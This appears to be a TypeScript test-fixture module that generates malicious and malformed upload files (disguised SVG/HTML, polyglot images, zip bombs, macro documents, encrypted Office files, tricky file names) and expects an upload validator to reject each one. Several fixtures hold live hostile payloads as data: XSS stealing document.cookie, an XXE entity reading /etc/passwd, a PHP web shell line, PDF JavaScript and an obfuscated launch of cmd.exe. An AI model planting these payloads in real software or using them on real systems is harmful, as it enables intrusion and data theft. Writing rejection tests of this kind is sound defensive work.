// A corpus of files that no upload may take, made by code. Contents that lie about themselves meet every name that an upload
// takes; the rest are built for one purpose each.
import sharp from 'sharp';
import { packedPdfOf, pdfOf } from '../outside/testing/pdf-file.ts';
import { box, docx, heic, mov, mp4, ole, pdf, pngHeader } from '../outside/testing/sample-files.ts';
import { xlsxFile } from '../outside/testing/xlsx-file.ts';
import { deflatedMegabytes, zipFile } from '../outside/testing/zip-file.ts';
import { picture } from './picture.ts';

export interface BadFile {
  what: string;
  name: string;
  content: Buffer;
  /** The refusal it must meet; any refusal of a file when not said. */
  problem?: string;
}

const script = '<script>alert(document.cookie)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${script}</svg>`;

/** Contents that no upload takes, under any name. */
const foreign: Record<string, Buffer | string> = {
  SVG: svg,
  'SVG with an XML head': `<?xml version="1.0" encoding="UTF-8"?>\n${svg}`,
  'SVG after a byte order mark': `\ufeff${svg}`,
  'SVG after blanks': `\n\n   ${svg}`,
  HTML: `<!doctype html><html><body>${script}</body></html>`,
  'HTML after a comment': `<!-- x --><html>${script}</html>`,
  XHTML: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`,
  'XML with entities': '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
  MHTML: 'MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>',
  PHP: '<?php system($_GET["c"]);',
  'Windows program': Buffer.concat([Buffer.from('MZ\x90\0'), Buffer.alloc(500)]),
  'Linux program': Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01', 'latin1'), Buffer.alloc(500)]),
  'Java class': Buffer.from('cafebabe00000034', 'hex'),
  'archive with a program': zipFile([{ name: 'run.exe', data: 'MZ' }]),
  RAR: Buffer.from('526172211a0700cf907300000d00000000000000', 'hex'),
  gzip: Buffer.from('1f8b0800000000000003', 'hex'),
  GIF: Buffer.from('R0lGODlhAQABAAAAACwAAAAAAQABAAA=', 'base64'),
  BMP: Buffer.concat([Buffer.from('BM'), Buffer.alloc(100)]),
  TIFF: Buffer.concat([Buffer.from('49492a0008000000', 'hex'), Buffer.alloc(100)]),
  ICO: Buffer.from('00000100010010100000010020006804000016000000', 'hex'),
  PostScript: '%!PS-Adobe-3.0\n(x) show',
  RTF: '{\\rtf1 {\\object\\objdata 0105}}',
  'zero bytes': Buffer.alloc(3_000),
};

function lies(extensions: readonly string[]): BadFile[] {
  return extensions.flatMap((extension) =>
    Object.entries(foreign).map(([what, content]) => ({
      what: `${what} called ${extension}`,
      name: `Файл.${extension}`,
      content: Buffer.from(content),
    })),
  );
}

async function swapped(): Promise<BadFile[]> {
  const pictures = {
    jpg: await picture().jpeg().toBuffer(),
    png: await picture().png().toBuffer(),
    webp: await picture().webp().toBuffer(),
  };
  const good: Record<string, Buffer> = { ...pictures, pdf, docx: docx(), mp4, mov };
  return Object.keys(good).flatMap((extension) =>
    Object.entries(good)
      .filter(([own]) => own !== extension)
      .map(([own, content]) => ({
        what: `${own} called ${extension}`,
        name: `x.${extension}`,
        content,
        problem: 'file.extension_mismatch',
      })),
  );
}

const refusedNames = `
  x.svg x.html x.htm x.xml x.exe x.php x.js x.gif x.avif x.tiff x.zip x.xlsm x.docm x.doc x.xls
  x.jpg.exe x.jpg\0.exe x.jpg%00.exe .jpg. jpg фото .htaccess x.jpg::$DATA`;
/** Nothing is left of these without their folders. */
const namelessNames = '.. ./ x.jpg/';

async function byName(): Promise<BadFile[]> {
  const content = await picture().jpeg().toBuffer();
  const called = (names: string, problem: string) =>
    names
      .trim()
      .split(/\s+/)
      .map((name) => ({ what: `the name ${JSON.stringify(name)}`, name, content, problem }));
  return [...called(refusedNames, 'file.kind_refused'), ...called(namelessNames, 'file.missing')];
}

async function pictures(): Promise<BadFile[]> {
  const jpeg = await picture(300, 200).jpeg().toBuffer();
  const png = await picture(300, 200).png().toBuffer();
  const webp = await picture(300, 200).webp().toBuffer();
  const frames = 3_000;
  const raw = Buffer.alloc(4 * 4 * 3 * frames, 7);
  for (let at = 0; at < raw.length; at++) raw[at] = (at * 31) & 0xff;
  const film = await sharp(raw, { raw: { width: 4, height: 4 * frames, channels: 3, pageHeight: 4 } })
    .webp({ effort: 0 })
    .toBuffer();
  const behind = (own: Buffer, text: string | Buffer) => Buffer.concat([own, Buffer.from(text)]);
  return [
    {
      what: 'JPEG with a page behind it',
      name: 'x.jpg',
      content: behind(jpeg, `<html>${script}`),
      problem: 'file.kind_refused',
    },
    {
      what: 'JPEG with PHP behind it',
      name: 'x.jpg',
      content: behind(jpeg, '<?php system(1);'),
      problem: 'file.kind_refused',
    },
    { what: 'JPEG with a PDF behind it', name: 'x.jpg', content: behind(jpeg, pdf), problem: 'file.kind_refused' },
    {
      what: 'PNG with an archive behind it',
      name: 'x.png',
      content: behind(png, zipFile([{ name: 'a.class', data: 'x' }])),
      problem: 'file.kind_refused',
    },
    { what: 'PNG with an SVG behind it', name: 'x.png', content: behind(png, svg), problem: 'file.kind_refused' },
    { what: 'pixel flood', name: 'x.png', content: pngHeader(30_000, 30_000), problem: 'file.bomb' },
    { what: 'one endless line', name: 'x.png', content: pngHeader(1_000_000, 1), problem: 'file.bomb' },
    { what: 'thousands of frames', name: 'x.webp', content: film, problem: 'file.bomb' },
    { what: 'half a JPEG', name: 'x.jpg', content: jpeg.subarray(0, jpeg.length / 2), problem: 'file.broken' },
    { what: 'half a PNG', name: 'x.png', content: png.subarray(0, png.length / 2), problem: 'file.broken' },
    { what: 'half a WebP', name: 'x.webp', content: webp.subarray(0, webp.length / 2), problem: 'file.broken' },
    { what: 'the head of a JPEG', name: 'x.jpg', content: jpeg.subarray(0, 20), problem: 'file.broken' },
    { what: 'HEIC', name: 'IMG_0001.HEIC', content: heic, problem: 'file.heic' },
    { what: 'HEIC called jpg', name: 'IMG_0001.jpg', content: heic, problem: 'file.heic' },
    { what: 'nothing', name: 'x.jpg', content: Buffer.alloc(0), problem: 'file.empty' },
  ];
}

const bomb = { name: 'word/big.xml', data: '', packed: deflatedMegabytes(900), declared: 900 * 2 ** 20 };

const remoteTemplate = `<Relationships><Relationship Id="rId1" TargetMode="External"
  Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
  Target="https://example.ru/template.dotm"/></Relationships>`;

const documents: BadFile[] = [
  { what: 'bomb', name: 'x.docx', content: docx([bomb]), problem: 'file.bomb' },
  {
    what: 'document of too many parts',
    name: 'x.docx',
    content: docx(Array.from({ length: 300 }, (_, i) => ({ name: `word/${i}.xml`, data: 'x' }))),
    problem: 'file.bomb',
  },
  {
    what: 'document with an archive',
    name: 'x.docx',
    content: docx([{ name: 'word/embeddings/a.zip', data: 'x' }]),
    problem: 'file.nested_archive',
  },
  {
    what: 'document with macros',
    name: 'x.docx',
    content: docx([{ name: 'word/vbaProject.bin', data: 'x' }]),
    problem: 'file.macros_refused',
  },
  { what: 'document with a password', name: 'x.docx', content: ole('EncryptedPackage'), problem: 'file.encrypted' },
  { what: 'old document', name: 'x.docx', content: ole('WordDocument'), problem: 'file.old_format' },
  { what: 'cut off document', name: 'x.docx', content: docx().subarray(0, -30), problem: 'file.broken' },
  { what: 'cut off PDF', name: 'x.pdf', content: pdf.subarray(0, 2_000), problem: 'file.broken' },
  {
    what: 'PDF after a page',
    name: 'x.pdf',
    content: Buffer.concat([Buffer.from('<html>'), pdf]),
    problem: 'file.extension_mismatch',
  },
  {
    what: 'PDF with a script',
    name: 'x.pdf',
    content: pdfOf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
    problem: 'file.active_content',
  },
  {
    what: 'PDF with a start of a program, packed',
    name: 'x.pdf',
    content: packedPdfOf(['<< /S /L#61unch /F (cmd.exe) >>']),
    problem: 'file.active_content',
  },
  {
    what: 'PDF with a file inside',
    name: 'x.pdf',
    content: pdfOf('<< /Type /EmbeddedFile >>'),
    problem: 'file.nested_archive',
  },
  {
    what: 'document with a remote template',
    name: 'x.docx',
    content: docx([{ name: 'word/_rels/settings.xml.rels', data: remoteTemplate }]),
    problem: 'file.remote_content',
  },
  { what: 'empty PDF', name: 'x.pdf', content: Buffer.alloc(0), problem: 'file.empty' },
  { what: 'cut off film', name: 'x.mp4', content: mp4.subarray(0, -10), problem: 'file.broken' },
  {
    what: 'film with a page behind it',
    name: 'x.mp4',
    content: Buffer.concat([mp4, Buffer.from(`<html>${script}`)]),
    problem: 'file.broken',
  },
  {
    what: 'film without a film',
    name: 'x.mp4',
    content: box('ftyp', 'isom\0\0\x02\0isomiso2mp41'),
    problem: 'file.broken',
  },
  { what: 'empty film', name: 'x.mov', content: Buffer.alloc(0), problem: 'file.empty' },
];

export async function badUploads(): Promise<BadFile[]> {
  const taken = ['jpg', 'png', 'webp', 'pdf', 'docx', 'mp4', 'mov'];
  return [...lies(taken), ...(await swapped()), ...(await byName()), ...(await pictures()), ...documents];
}

export async function badWorkbooks(): Promise<BadFile[]> {
  const xlsx = xlsxFile({ rows: '<row><c><v>1</v></c></row>' });
  const part = (name: string) => xlsxFile({ more: [{ name, data: 'x' }] });
  return [
    ...lies(['xlsx']),
    {
      what: 'bomb',
      name: 'x.xlsx',
      content: xlsxFile({ more: [{ ...bomb, name: 'xl/big.xml' }] }),
      problem: 'file.bomb',
    },
    { what: 'cut off', name: 'x.xlsx', content: xlsx.subarray(0, -30), problem: 'file.broken' },
    { what: 'archive inside', name: 'x.xlsx', content: part('xl/embeddings/a.zip'), problem: 'file.nested_archive' },
    { what: 'macros', name: 'x.xlsx', content: part('xl/vbaProject.bin'), problem: 'file.macros_refused' },
    { what: 'password', name: 'x.xlsx', content: ole('EncryptedPackage'), problem: 'file.encrypted' },
    { what: 'old workbook', name: 'x.xlsx', content: ole('Workbook'), problem: 'file.old_format' },
    { what: 'document called xlsx', name: 'x.xlsx', content: docx(), problem: 'file.extension_mismatch' },
    { what: 'old name', name: 'x.xls', content: ole('Workbook'), problem: 'file.kind_refused' },
    {
      what: 'CSV at the wrong call',
      name: 'x.csv',
      content: Buffer.from('Код ТТ;Название\n1;2'),
      problem: 'file.kind_refused',
    },
    { what: 'nothing', name: 'x.xlsx', content: Buffer.alloc(0), problem: 'file.empty' },
  ];
}

/** Plain text of any sense is a table of one column; the import judges its contents. */
export function badTables(): BadFile[] {
  const asText = new Set(['MHTML', 'RTF']);
  return [
    ...lies(['csv']).filter(({ what }) => !asText.has(what.replace(/ called csv$/, ''))),
    { what: 'zero byte', name: 'x.csv', content: Buffer.from('Код ТТ;Название\n1;\0'), problem: 'sheet.not_text' },
    {
      what: 'no encoding at all',
      name: 'x.csv',
      content: Buffer.from(Array.from({ length: 5_000 }, (_, i) => 128 + (i % 128))),
      problem: 'sheet.bad_encoding',
    },
    { what: 'workbook called csv', name: 'x.csv', content: xlsxFile({}), problem: 'file.extension_mismatch' },
    { what: 'workbook at the wrong call', name: 'x.xlsx', content: xlsxFile({}), problem: 'file.kind_refused' },
    { what: 'nothing', name: 'x.csv', content: Buffer.alloc(0), problem: 'file.empty' },
  ];
}
